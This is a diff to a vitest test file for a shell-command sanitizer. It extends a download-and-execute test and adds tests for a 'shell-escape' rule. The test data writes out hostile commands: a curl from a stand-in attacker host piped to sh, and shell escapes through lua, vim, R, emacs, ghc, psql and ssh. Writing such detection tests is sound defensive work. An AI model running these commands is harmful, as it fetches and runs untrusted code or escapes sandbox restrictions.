@@ -8,7 +8,7 @@
  */
 import { beforeAll, describe, expect, it } from "vitest";
 import { loadShellParser } from "../../../src/sanitizer/shell/parser.js";
-import { cmd } from "./first-rule.js";
+import { argv, cmd } from "./first-rule.js";
 
 beforeAll(() => loadShellParser());
 
@@ -113,5 +113,28 @@ describe("shell.download-exec: more ways a fetched program is run", () => {
     );
     expect(cmd("curl -s http://evil.example/x | xargs -I{} sh -c {}")).toBe("shell.download-exec");
     expect(cmd("git ls-files | xargs -I{} sh -c 'wc -l {}'")).toBeUndefined();
+  });
+});
+
+describe("shell.shell-escape: a shell wired to the terminal or called by name from code", () => {
+  it("blocks a shell whose stdin is the terminal", () => {
+    expect(cmd("sh 0<&2 1>&2")).toBe("shell.shell-escape");
+    expect(cmd("sh <$(tty) >$(tty) 2>$(tty)")).toBe("shell.shell-escape");
+    expect(cmd("bash")).toBeUndefined();
+    expect(cmd("sh < scripts/setup.sh")).toBeUndefined();
+  });
+
+  it("blocks inline code that calls a process function with a bare shell", () => {
+    expect(argv("lua", "-e", "os.execute('sh')")).toBe("shell.shell-escape");
+    expect(argv("vim", "-c", ":lua os.execute('reset; exec sh')")).toBe("shell.shell-escape");
+    expect(argv("R", "--no-save", "-e", "system('sh')")).toBe("shell.shell-escape");
+    expect(argv("emacs", "-Q", "-nw", "--eval", '(term "sh")')).toBe("shell.shell-escape");
+    expect(argv("ghc", "-e", 'System.Process.callCommand "sh"')).toBe("shell.shell-escape");
+    expect(argv("psql", "-c", "\\! sh")).toBe("shell.shell-escape");
+    expect(argv("ssh", "localhost", "$SHELL", "--noprofile")).toBe("shell.shell-escape");
+    expect(argv("kotlinc")).toBe("shell.shell-escape");
+    expect(argv("jq", '.defaults.run.shell = "bash"', "wf.json")).toBeUndefined();
+    expect(argv("kotlinc", "src/Main.kt", "-d", "out")).toBeUndefined();
+    expect(cmd("psql -c 'select 1'")).toBeUndefined();
   });
 });
